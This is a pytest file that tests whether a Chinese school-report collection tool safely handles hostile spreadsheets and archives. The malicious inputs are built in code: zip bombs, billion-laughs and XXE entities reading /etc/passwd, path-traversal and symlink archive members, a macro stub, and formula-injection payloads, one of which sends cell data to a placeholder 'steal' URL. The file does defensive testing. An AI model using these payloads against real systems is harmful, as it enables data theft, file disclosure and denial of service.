"""Broken, strange and hostile files through the real ``dudao collect``.

Returns come from hundreds of PCs by e-mail and chat apps. Whatever arrives, the clerk finishes
the collection: every file that cannot be read is listed by ``status`` with a plain Chinese
reason, in bounded time and memory, and the rest of the batch is processed; nothing in an archive
is written outside the collection folder; and nothing a school typed becomes a formula, a link
to the outside or a macro in a workbook we write.

Every file of the corpus is built here by code: no binary blobs.
"""

from __future__ import annotations

import io
import os
import sqlite3
import random
import re
import stat
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from contextlib import closing
from pathlib import Path

import openpyxl
import pytest

from aggregator.demo import fill_workbook, gbk_zip
from aggregator.form.parse import load_form
from aggregator.form.layout import layout_of

from cli_helpers import SCHOOLS, dudao, put, states, status_json
from builders import (SheetSpec, bad_name_formula, docx, excel4_workbook, flat_ods, formatted_to_the_last_row,
                      huge_cell_xlsb, ole_file, patch_zip, renamed_ole_stream, rewrite_package, sheet_member,
                      with_default_password, with_ods_macros, write_return)
from builders import sample_values as builder_values

FORM = load_form()
CELLS = layout_of(FORM).cells
S1, S2, S3, S4, S5, S6 = (s[0] for s in SCHOOLS)
CJK = re.compile(r"[\u4e00-\u9fff]")


# ================================================================================================
# The collection
# ================================================================================================


def filled(folder: Path, school: str, values: dict) -> bytes:
    return fill_workbook(folder / "outbox" / f"附件5-{school}.xlsx", FORM, values)


def archived_bytes(folder: Path) -> set[bytes]:
    return {p.read_bytes() for p in (folder / "archive").rglob("*") if p.is_file()}


# ================================================================================================
# The corpus of unreadable files
# ================================================================================================


def _patch_entry(raw: bytes, name: str, *, method: int | None = None, crc: int | None = None,
                 size: int | None = None) -> bytes:
    """Rewrite one member's header fields, in its local header and in the central directory."""
    out = bytearray(raw)
    encoded = name.encode()
    i = out.find(b"PK\x01\x02")
    while i != -1:
        n = struct.unpack_from("<H", out, i + 28)[0]
        if bytes(out[i + 46 : i + 46 + n]) == encoded:
            local = struct.unpack_from("<I", out, i + 42)[0]
            for central, here in ((i + 10, local + 8), (i + 16, local + 14), (i + 24, local + 22)):
                field = {i + 10: method, i + 16: crc, i + 24: size}[central]
                if field is not None:
                    fmt = "<H" if central == i + 10 else "<I"
                    struct.pack_into(fmt, out, central, field)
                    struct.pack_into(fmt, out, here, field)
        i = out.find(b"PK\x01\x02", i + 4)
    return bytes(out)


def gigabyte_bomb(gigabytes: int = 2) -> bytes:
    """An .xlsx whose sheet inflates to ``gigabytes`` GB of zeros; about 2 MB on disk, built in
    half a second: one fully flushed deflate block of 1 MB repeated, with honest headers."""
    chunk = b"\x00" * (1 << 20)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    n = gigabytes << 10
    body = block * n + deflate.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   b'package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
                   b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
        z.writestr("xl/worksheets/sheet1.xml", body)  # stored: the deflate stream as it is
    return _patch_entry(buf.getvalue(), "xl/worksheets/sheet1.xml", method=zipfile.ZIP_DEFLATED, crc=crc,
                        size=n << 20)


def lying_bomb(good: bytes) -> bytes:
    """A return whose sheet part claims 4 KB but inflates to 300 MB: the headers lie."""

    def body(fh, head: bytes, tail: bytes) -> None:
        fh.write(head + b"</sheetData><!--")
        for _ in range(300):
            fh.write(b"a" * (1 << 20))
        fh.write(b"-->" + tail)

    data, member = _streamed_sheet(good, body)
    return _patch_entry(data, member, size=4096)


def _streamed_sheet(good: bytes, body) -> tuple[bytes, str]:
    """The return with its table sheet's XML rewritten by ``body(fh, head, tail)`` as a stream
    (head and tail: the part before and after ``</sheetData>``), and that member's name."""
    src = zipfile.ZipFile(io.BytesIO(good))
    member = _sheet_of(src)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename != member:
                out.writestr(info.filename, data)
                continue
            head, tail = data.split(b"</sheetData>")
            with out.open(member, "w", force_zip64=True) as fh:
                body(fh, head, tail)
    return buf.getvalue(), member


def _sheet_of(zf: zipfile.ZipFile) -> str:
    names = re.findall(rb'<sheet [^>]*name="([^"]+)"', zf.read("xl/workbook.xml"))
    return f"xl/worksheets/sheet{[n.decode() for n in names].index(FORM.sheet) + 1}.xml"


def _patched(tmp: Path, good: bytes, member: str | None, change) -> bytes:
    path = tmp / f"patch-{random.random()}.xlsx"
    path.write_bytes(good)
    patch_zip(path, member or sheet_member(path, FORM.sheet), change)
    return path.read_bytes()


LAUGHS = (b'<!DOCTYPE worksheet [<!ENTITY a "lollollollollollollollollollol">'
          + b"".join(b'<!ENTITY %s "%s">' % (bytes([c + 1]), b"&%s;" % bytes([c]) * 10) for c in range(97, 106))
          + b"]>")
XXE = b'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def billion_laughs(tmp: Path, good: bytes) -> bytes:
    return _patched(tmp, good, None, lambda x: x.replace(b"<worksheet", LAUGHS + b"<worksheet", 1)
                    .replace(b"</sheetData>", b'<row r="200"><c r="A200" t="inlineStr"><is><t>&j;</t></is></c></row>'
                                              b"</sheetData>", 1))


def external_entity(tmp: Path, good: bytes) -> bytes:
    return _patched(tmp, good, "xl/workbook.xml",
                    lambda x: x.replace(b"<workbook", XXE + b"<workbook", 1).replace(b'name="', b'name="&xxe;', 1))


def million_rows(good: bytes, rows: int = 1_000_000) -> bytes:
    """The return with a million rows pasted below its table, as a sheet XML written row by row
    (openpyxl would take a minute to write it)."""

    def body(fh, head: bytes, tail: bytes) -> None:
        fh.write(head)
        for start in range(100, rows + 1, 50_000):
            fh.write(b"".join(b'<row r="%d"><c><v>1</v></c></row>' % r
                              for r in range(start, min(start + 50_000, rows + 1))))
        fh.write(b"</sheetData>" + tail)

    return _streamed_sheet(good, body)[0]


def absurd_string_count(good: bytes) -> bytes:
    buf = io.BytesIO(good)
    with zipfile.ZipFile(buf, "a") as z:
        z.writestr("xl/sharedStrings.xml", b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                                           b'count="4000000000" uniqueCount="4000000000"><si><t>a</t></si></sst>')
    return buf.getvalue()


def corpus(tmp: Path, good: bytes) -> dict[str, tuple[bytes, str]]:
    """File name -> (bytes, the kind ``status --json`` must list it under)."""
    return {
        "空文件.xlsx": (b"", "empty-file"),
        "下载不完整.xlsx": (good[: len(good) // 2], "corrupt"),
        "乱码.xlsx": (random.Random(5).randbytes(4000), "corrupt"),
        "其实是Word.xlsx": (docx(tmp / "案例.docx").read_bytes(), "not-spreadsheet"),
        "其实是旧版Word.xls": (ole_file(["WordDocument", "1Table"]), "not-spreadsheet"),
        "其实是PDF.xlsx": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + bytes(300), "not-spreadsheet"),
        "其实是CSV.xlsx": ("填报单位,填报人,联系电话\n曾都区实验小学,王丽,13872301001\n".encode("gbk"), "not-spreadsheet"),
        "有打开密码.xlsx": (ole_file(["\x06DataSpaces", "EncryptionInfo", "EncryptedPackage"]), "encrypted"),
        "解压后2GB.xlsx": (gigabyte_bomb(2), "zip-bomb"),
        "大小造假.xlsx": (lying_bomb(good), "corrupt"),
        "实体膨胀.xlsx": (billion_laughs(tmp, good), "unsafe-xml"),
        "外部实体.xlsx": (external_entity(tmp, good), "unsafe-xml"),
        "一百万行.xlsx": (million_rows(good), "too-many-cells"),
        "文本数量造假.xlsx": (absurd_string_count(good), "too-many-cells"),
    }


# Run ``dudao collect`` in a child process: the child's exit status and output are the clerk's, and
# its own peak memory (VmHWM: ru_maxrss would also count the parent's memory at fork time) and its
# reading workers' (the largest child's ru_maxrss: an upper bound, it counts what the fork shared)
# are what we bound. Bounded time is the generous timeout.
_RUNNER = (
    "import re, resource, sys; from pathlib import Path; from aggregator.cli import main; code = main(sys.argv[1:]); "
    "status = Path('/proc/self/status'); "
    "peak = re.search(r'VmHWM:\\s*(\\d+)', status.read_text()) if status.exists() else None; "
    "workers = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss; "
    "print('PEAK_KB', peak.group(1) if peak else 0, workers, file=sys.stderr); sys.exit(code)"
)
PEAK_MB = 300  # per process, the main one and each reader: about 100 MB measured
TIMEOUT = 120  # seconds for a whole batch; about 5 s measured


def collect_in_child(folder: Path, *args: str | Path) -> tuple[subprocess.CompletedProcess, tuple[float, float]]:
    """(the finished process, (peak MB of collect itself, of its largest reading worker))."""
    proc = subprocess.run([sys.executable, "-c", _RUNNER, "collect", str(folder), *map(str, args)],
                          capture_output=True, text=True, encoding="utf-8", timeout=TIMEOUT)
    peak = re.search(r"PEAK_KB (\d+) (\d+)", proc.stderr)
    return proc, (int(peak.group(1)) / 1024, int(peak.group(2)) / 1024) if peak else (0.0, 0.0)


def test_every_unreadable_kind_is_listed_with_a_chinese_reason_and_the_batch_goes_on(col_dir, capsys, school_values,
                                                                                     tmp_path):
    good = filled(col_dir, S1, school_values[S1])
    files = corpus(tmp_path, good)
    for name, (data, _) in files.items():
        put(col_dir / "inbox" / name, data)
    put(col_dir / "inbox" / "附件5-实验小学.xlsx", good)
    put(col_dir / "inbox" / "附件5-实验中学.xlsx", filled(col_dir, S2, school_values[S2]))

    proc, peaks = collect_in_child(col_dir)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    assert max(peaks) < PEAK_MB, f"peak memory {peaks} MB"  # 0 where /proc is missing

    data = status_json(capsys, col_dir)
    listed = {Path(u["file"]).name: u for u in data["unreadable"]}
    assert {name: u["kind"] for name, u in listed.items()} == {name: kind for name, (_, kind) in files.items()}
    for name, u in listed.items():
        reason = u["reason"]
        assert CJK.search(reason) and "Error" not in reason and "Traceback" not in reason, (name, reason)
        assert u["archived"]  # kept, byte for byte (checked below)
    got = states(capsys, col_dir)
    assert got[S1] == "accepted" and got[S2] == "accepted"
    kept = archived_bytes(col_dir)
    assert all(data in kept for data, _ in files.values())
    # The CLI's own summary line counts them too.
    assert f"无法读取 {len(files)} 个" in proc.stdout


def real_world(tmp_path: Path, values: dict[str, dict]) -> dict[str, tuple[bytes, str]]:
    """What other libraries' test corpora showed real files to be, one of each, built here: file
    name -> (bytes, "return" for one read as the school's return, else the unreadable kind)."""
    v = {school: dict(values[school], unit=school) for school in (S1, S2, S3, S4, S5, S6)}

    def made(name: str, school: str, fmt: str = "xlsx") -> Path:
        return write_return(tmp_path / name, v[school], unit=None, fmt=fmt, meta=False)

    xlsx = made("lo.xlsx", S5)
    table = SheetSpec(FORM.sheet, {(1, 1): FORM.title(), (3, 1): "填报单位："})
    return {
        "图表在前.xlsb": (made("chart.xlsb", S1, "xlsb").read_bytes(), "return"),
        "默认密码.xlsx": (with_default_password(made("pw.xlsx", S2).read_bytes()), "return"),
        "Excel4工作表.xls": (made("excel4.xls", S3, "xls4").read_bytes(), "return"),
        "大写流名.xls": (renamed_ole_stream(made("caps.xls", S4, "xls").read_bytes(), "WORKBOOK"), "return"),
        "xlrd公式错误.xls": (bad_name_formula(made("formula.xls", S1, "xls").read_bytes()), "return"),
        "格式到最后一行.xlsx": (formatted_to_the_last_row(xlsx.read_bytes(), sheet_member(xlsx)), "return"),
        "带宏.ods": (with_ods_macros(made("macros.ods", S6, "ods").read_bytes()), "return"),
        "IV262144.xlsb": (huge_cell_xlsb([table], 262144, 256), "too-many-cells"),
        "XFD1048576.xlsb": (huge_cell_xlsb([table], 1048576, 16384), "too-many-cells"),
        "Excel4工作簿.xls": (excel4_workbook(), "old-excel"),
        "单文件.fods": (flat_ods(), "not-spreadsheet"),
    }


def test_real_world_files_never_take_collect_down(col_dir, capsys, school_values, tmp_path):
    """Six good returns among one file of every shape that crashed, aborted, bloated or was
    misnamed before: one exit status 0, no traceback or panic, every file recorded and archived
    byte for byte, the six accepted, every process under ``PEAK_MB``; a second run is a no-op."""
    inbox = col_dir / "inbox"
    good = {f"附件5-{school}.xlsx": filled(col_dir, school, school_values[school]) for school in (S1, S2, S3, S4, S5, S6)}
    shapes = real_world(tmp_path, school_values)
    for name, data in [*good.items(), *((n, d) for n, (d, _) in shapes.items())]:
        put(inbox / name, data, "2023-11-15T10:00:00" if name in good else "2023-11-14T10:00:00")

    proc, peaks = collect_in_child(col_dir)
    assert proc.returncode == 0, proc.stderr
    for text in (proc.stdout, proc.stderr):
        assert "Traceback" not in text and "panicked" not in text and "RUST_BACKTRACE" not in text, text
    assert max(peaks) < PEAK_MB, f"peak MB of collect and of its largest reader: {peaks}"
    assert states(capsys, col_dir) == {school: "accepted" for school in (S1, S2, S3, S4, S5, S6)}
    data = status_json(capsys, col_dir)
    unreadable = {Path(u["file"]).name: u["kind"] for u in data["unreadable"]}
    assert unreadable == {name: kind for name, (_, kind) in shapes.items() if kind != "return"}
    with closing(sqlite3.connect(col_dir / "ledger.sqlite")) as db:
        recorded = {Path(name).name: outcome for name, outcome in db.execute("SELECT original_name, outcome FROM files")}
        read = {Path(n).name for (n,) in db.execute("SELECT original_name FROM returns JOIN files USING (sha256)")}
    assert set(recorded) == set(good) | set(shapes)
    assert read == set(good) | {name for name, (_, kind) in shapes.items() if kind == "return"}
    kept = archived_bytes(col_dir)
    assert all(d in kept for d in good.values()) and all(d in kept for d, _ in shapes.values())

    proc, _ = collect_in_child(col_dir)
    assert proc.returncode == 0 and "新收到报表 0 份" in proc.stdout and "无法读取 0 个" in proc.stdout, proc.stdout


def test_a_zip_bomb_never_reaches_the_spreadsheet_library(tmp_path):
    """The size check runs on the central directory alone: nothing is inflated."""
    from aggregator.reading import UnreadableFile, read_return

    path = tmp_path / "附件5.xlsx"
    path.write_bytes(gigabyte_bomb(2))
    with pytest.raises(UnreadableFile) as info:
        read_return(path, FORM)
    assert info.value.kind == "zip-bomb" and "2.0 GB" in info.value.message


def test_a_million_rows_are_refused_before_a_grid_is_built(tmp_path):
    from aggregator.reading import UnreadableFile, read_return

    path = tmp_path / "附件5.xlsx"
    path.write_bytes(million_rows(write_return(tmp_path / "good.xlsx", builder_values()).read_bytes()))
    with pytest.raises(UnreadableFile) as info:
        read_return(path, FORM)
    assert info.value.kind == "too-many-cells" and "行" in info.value.message


# ================================================================================================
# Archives: nothing is written outside the collection folder
# ================================================================================================


def _zip(members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the point
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for info, data in members:
                z.writestr(info, data)
    return buf.getvalue()


def _symlink(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name, (2023, 11, 18, 9, 0, 0))
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    info.create_system = 3  # Unix: the mode bits are meaningful
    return info, target.encode()


def _tree(root: Path, skip: Path | None = None) -> dict[str, tuple[bool, int]]:
    """Every path under ``root`` (outside ``skip``) -> (is a symlink, size)."""
    out = {}
    for dirpath, dirs, files in os.walk(root):
        here = Path(dirpath)
        if skip is not None and (here == skip or skip in here.parents):
            dirs[:] = []
            continue
        for name in dirs + files:
            p = here / name
            out[str(p)] = (p.is_symlink(), p.lstat().st_size if not p.is_dir() else 0)
    return out


def test_hostile_archive_writes_nothing_outside_and_reads_what_it_safely_can(col_dir, capsys, school_values, tmp_path):
    v = school_values
    deepest = _zip([("第5层.zip", _zip([("附件5.xlsx", filled(col_dir, S1, v[S1]))]))])
    level3 = gbk_zip({f"何店镇/附件5-{S6}.xlsx": filled(col_dir, S6, v[S6])})  # Windows' zip tool: GBK names
    level2 = _zip([("第3层.zip", level3), ("更深/第3层b.zip", _zip([("第4层.zip", deepest)]))])
    outer = _zip([
        ("../../逃逸-实验小学.xlsx", filled(col_dir, S1, v[S1])),
        ("/tmp/dudao-绝对路径-实验中学.xlsx", filled(col_dir, S2, v[S2])),
        ("C:\\Windows\\Temp\\盘符-文峰学校.xlsx", filled(col_dir, S3, v[S3])),
        ("重复.xlsx", filled(col_dir, S4, v[S4])),
        ("重复.xlsx", filled(col_dir, S5, v[S5])),
        _symlink("链接.xlsx", "../../../../../../etc/passwd"),
        _symlink("另一个链接.xlsx", "/etc/shadow"),
        ("第2层.zip", level2),
        (f"{'名字很长的文件' * 40}.xlsx", filled(col_dir, S4, dict(v[S4], reporter="朱红（长文件名）"))),
        (zipfile.ZipInfo("压缩数据损坏.xlsx", (2023, 11, 18, 9, 0, 0)), filled(col_dir, S5, dict(v[S5], reporter="损坏"))),
        ("大小造假.xlsx", filled(col_dir, S5, dict(v[S5], reporter="造假"))),
    ])
    outer = _patch_entry(outer, "压缩数据损坏.xlsx", method=zipfile.ZIP_DEFLATED)  # stored, inflated: zlib.error
    outer = _patch_entry(outer, "大小造假.xlsx", size=1000)
    put(col_dir / "inbox" / "万店镇中心学校.zip", outer)
    bad_name = bytearray(_zip([("ab.xlsx", b"x")]))  # flagged UTF-8, but the name's bytes are not
    for at in (bad_name.find(b"ab.xlsx"), bad_name.rfind(b"ab.xlsx")):
        bad_name[at : at + 2] = b"\xff\xfe"
    struct.pack_into("<H", bad_name, bad_name.find(b"PK\x01\x02") + 8, 0x800)
    put(col_dir / "inbox" / "名字乱码.zip", bytes(bad_name))

    outside_before = _tree(tmp_path.parent, skip=col_dir)
    inside_before = _tree(col_dir)
    code, out, err = dudao(capsys, "collect", col_dir)
    assert code == 0 and "Traceback" not in err

    # Nothing appeared, vanished or changed outside the collection folder, nor where the names point.
    assert _tree(tmp_path.parent, skip=col_dir) == outside_before
    assert not Path("/tmp/dudao-绝对路径-实验中学.xlsx").exists()
    for base in (Path.cwd(), col_dir, col_dir / "inbox", col_dir / "archive", tmp_path):
        assert not (base / "../../逃逸-实验小学.xlsx").exists()
    # Inside it, only the archive grew (and the log): plain files with safe names, no links.
    new = {p for p in _tree(col_dir).keys() - inside_before.keys() if not Path(p).name.startswith("ledger.sqlite")}
    archive = (col_dir / "archive").resolve()
    logs = (col_dir / "logs").resolve()
    for p in map(Path, new):
        if p.resolve() == logs or logs in p.resolve().parents:
            continue
        assert archive in p.resolve().parents or p.resolve() == archive, p
        assert not p.is_symlink()
        if p.is_file():
            assert re.fullmatch(r"[0-9a-f]{12}-[^\\/:*?\"<>|\x00-\x1f]+", p.name), p.name
    for dirpath, dirs, files in os.walk(col_dir):
        assert not any(Path(dirpath, n).is_symlink() for n in dirs + files)

    # What could be read was read: both "重复.xlsx", the GBK-named file three zips deep, the file
    # whose name is longer than a file system allows.
    got = states(capsys, col_dir)
    assert got == {S1: "accepted", S2: "accepted", S3: "accepted", S4: "accepted", S5: "accepted",
                   S6: "accepted"}
    data = status_json(capsys, col_dir)
    by_name = {s["name"]: s for s in data["schools"]}
    assert by_name[S6]["file"].endswith(f"何店镇/附件5-{S6}.xlsx")
    assert by_name[S1]["file"].endswith("万店镇中心学校.zip/逃逸-实验小学.xlsx")
    assert by_name[S2]["file"].endswith("万店镇中心学校.zip/tmp/dudao-绝对路径-实验中学.xlsx")
    assert by_name[S3]["file"].endswith("万店镇中心学校.zip/Windows/Temp/盘符-文峰学校.xlsx")
    for s in data["schools"]:
        assert ".." not in s["file"] and "\\" not in s["file"]
        assert (col_dir / s["archived"]).resolve().parent.parent == archive
    # Each link and the zip nested too deep is listed, every one (not one for all).
    reasons = sorted((Path(u["file"]).name, u["kind"]) for u in data["unreadable"])
    assert reasons == sorted([("链接.xlsx", "not-spreadsheet"), ("另一个链接.xlsx", "not-spreadsheet"),
                              ("第4层.zip（压缩包内容）", "zip-bomb"), ("压缩数据损坏.xlsx", "corrupt"),
                              ("大小造假.xlsx", "corrupt"), ("名字乱码.zip（压缩包内容）", "corrupt")]), reasons
    assert all(CJK.search(u["reason"]) for u in data["unreadable"])
    kept = archived_bytes(col_dir)
    assert outer in kept  # the archive itself, byte for byte
    assert not kept & {b"../../../../../../etc/passwd", b"/etc/shadow", b""}  # no link archived as a file
    assert not any("root:" in p.read_bytes().decode("latin-1") for p in (col_dir / "archive").rglob("*") if p.is_file())

    # Collecting the same folder again records nothing new and lists nothing twice.
    code, out, _ = dudao(capsys, "collect", col_dir)
    assert code == 0 and "新收到报表 0 份" in out
    assert len(status_json(capsys, col_dir)["unreadable"]) == 6


def test_links_and_partial_downloads_in_the_inbox_are_not_returns(col_dir, capsys, school_values, tmp_path):
    secret = put(tmp_path / "机密.xlsx", filled(col_dir, S1, school_values[S1]))
    inbox = col_dir / "inbox"
    try:
        (inbox / "快捷方式.xlsx").symlink_to(secret)
        (inbox / "链接的文件夹").symlink_to(tmp_path, target_is_directory=True)
    except OSError:  # Windows without the right to create links
        pytest.skip("cannot create symbolic links here")
    half = filled(col_dir, S2, school_values[S2])
    put(inbox / "附件5-实验中学.xlsx.crdownload", half[: len(half) // 2])
    put(inbox / "附件5-实验中学.xlsx.part", half[: len(half) // 3])
    put(inbox / ".~附件5.xlsx.3fa2.part", half)
    code, out, _ = dudao(capsys, "collect", col_dir)
    assert code == 0
    assert "快捷方式" in out and "新收到报表 0 份" in out
    assert set(states(capsys, col_dir).values()) == {"missing"}
    assert status_json(capsys, col_dir)["unreadable"] == []
    assert archived_bytes(col_dir) == set()


# ================================================================================================
# Formula injection, links to the outside, macros
# ================================================================================================

PAYLOADS = {
    "reporter": '=HYPERLINK("http://x.example/steal?d="&A1,"点这里")',
    "problem_1": "+1+1",
    "problem_2": "-2",
    "problem_3": "@SUM(A1)",
}
EVIL_FILE = "=cmd|' calc'!A0.xlsx"


def _with_external_link(xlsx: bytes) -> bytes:
    """A workbook linked to another file on a server: Excel offers to "update links" on opening."""

    def workbook(data: bytes) -> bytes:
        data = re.sub(rb"(</sheets>(?:<definedNames>.*?</definedNames>)?)",
                      rb'\1<externalReferences><externalReference r:id="rIdX1"/></externalReferences>', data,
                      count=1, flags=re.S)
        if b'xmlns:r="' not in data:
            data = data.replace(b"<workbook ", b'<workbook xmlns:r="http://schemas.openxmlformats.org/'
                                b'officeDocument/2006/relationships" ', 1)
        return data

    return rewrite_package(xlsx, {
        "[Content_Types].xml": lambda d: d.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/'
                                                   b'externalLink1.xml" ContentType="application/vnd.openxmlformats-'
                                                   b'officedocument.spreadsheetml.externalLink+xml"/></Types>'),
        "xl/_rels/workbook.xml.rels": lambda d: d.replace(b"</Relationships>", b'<Relationship Id="rIdX1" Type="http:'
                                                          b'//schemas.openxmlformats.org/officeDocument/2006/'
                                                          b'relationships/externalLink" Target="externalLinks/'
                                                          b'externalLink1.xml"/></Relationships>'),
        "xl/workbook.xml": workbook,
    }, add={
        "xl/externalLinks/externalLink1.xml": b'<?xml version="1.0" encoding="UTF-8"?><externalLink '
        b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames>'
        b'<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLinkPath" Target="http://x.example/evil.xlsx" TargetMode="External"/>'
        b'</Relationships>',
    })


def _as_xlsm(xlsx: bytes) -> bytes:
    """What Excel saves as .xlsm: a macro-enabled main part and a VBA project."""

    def types(data: bytes) -> bytes:
        data = data.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
        return data.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
                            b'vbaProject"/></Types>')

    return rewrite_package(xlsx, {
        "[Content_Types].xml": types,
        "xl/_rels/workbook.xml.rels": lambda d: d.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type='
                                                          b'"http://schemas.microsoft.com/office/2006/relationships/'
                                                          b'vbaProject" Target="vbaProject.bin"/></Relationships>'),
    }, add={"xl/vbaProject.bin": ole_file(["VBA", "dir", "ThisWorkbook"]) + b"Sub Auto_Open(): Shell \"calc\""})


_FORMULA = re.compile(rb"<(?:\w+:)?f\b[^>]*>(.*?)</(?:\w+:)?f>", re.S)


def _unescape(b: bytes) -> str:
    return (b.decode("utf-8").replace("&quot;", '"').replace("&apos;", "'").replace("&lt;", "<")
            .replace("&gt;", ">").replace("&amp;", "&"))


def assert_nothing_runs(path: Path, payloads: list[str]) -> None:
    """No macro, no link to the outside, and no payload inside any formula of ``path``."""
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        assert not any("vba" in n.lower() or n.lower().endswith(".bin") for n in names), (path.name, names)
        assert not any("externallink" in n.lower() for n in names), (path.name, names)
        assert b"macroEnabled" not in zf.read("[Content_Types].xml")
        for n in names:
            data = zf.read(n)
            if n.endswith(".rels"):
                assert b'TargetMode="External"' not in data, (path.name, n)
            if n.startswith("xl/worksheets/") and n.endswith(".xml"):
                formulas = [_unescape(f) for f in _FORMULA.findall(data)]
                for p in payloads:
                    bare = p.lstrip("=+-@")  # "2" of "-2" is in our own live checks: compare whole
                    hit = [f for f in formulas if f in (p, p[1:]) or (len(bare) > 5 and bare in f)]
                    assert not hit, (path.name, n, p, hit)
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(p in cell.value for p in payloads):
                    assert cell.data_type == "s", (path.name, ws.title, cell.coordinate, cell.value)


def texts_in(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    return {str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


def test_school_text_is_never_a_formula_a_link_or_a_macro_in_anything_we_write(col_dir, capsys, school_values):
    v = school_values
    inbox = col_dir / "inbox"
    # Accepted, with formula-like text everywhere a school types text, and a formula-like file name.
    put(inbox / EVIL_FILE, filled(col_dir, S1, dict(v[S1], **PAYLOADS)))
    # Sent back (a wrong sum), linked to a file on a server.
    wrong = dict(v[S2], **PAYLOADS, **{"inspectors.total": v[S2]["inspectors.total"] + 1})
    put(inbox / "实验中学.xlsx", _with_external_link(filled(col_dir, S2, wrong)))
    # Sent back, as an .xlsm carrying a VBA project.
    wrong = dict(v[S3], **PAYLOADS, **{"notices.total": v[S3]["notices.total"] + 1})
    put(inbox / "文峰学校.xlsm", _as_xlsm(filled(col_dir, S3, wrong)))
    assert dudao(capsys, "collect", col_dir)[0] == 0
    got = states(capsys, col_dir)
    assert (got[S1], got[S2], got[S3]) == ("accepted", "returned", "returned"), got

    code, out, _ = dudao(capsys, "consolidate", col_dir, "--include", "all")
    assert code == 0
    summary = Path(out.strip().splitlines()[-1])
    code, out, _ = dudao(capsys, "feedback", col_dir)
    assert code == 0
    outputs = [summary, *sorted((col_dir / "feedback").glob("*.xlsx"))]
    assert {p.name for p in outputs[1:]} == {f"{S2}-退回修改.xlsx", f"{S3}-退回修改.xlsx"}

    payloads = [*PAYLOADS.values(), EVIL_FILE]
    for path in outputs:
        assert_nothing_runs(path, payloads)
    # Not vacuous: the payloads are in the outputs, as text.
    assert set(payloads) <= texts_in(summary)
    for school in (S2, S3):
        ws = openpyxl.load_workbook(col_dir / "feedback" / f"{school}-退回修改.xlsx")[FORM.sheet]
        assert ws[CELLS["reporter"]].value == PAYLOADS["reporter"] and ws[CELLS["reporter"]].data_type == "s"
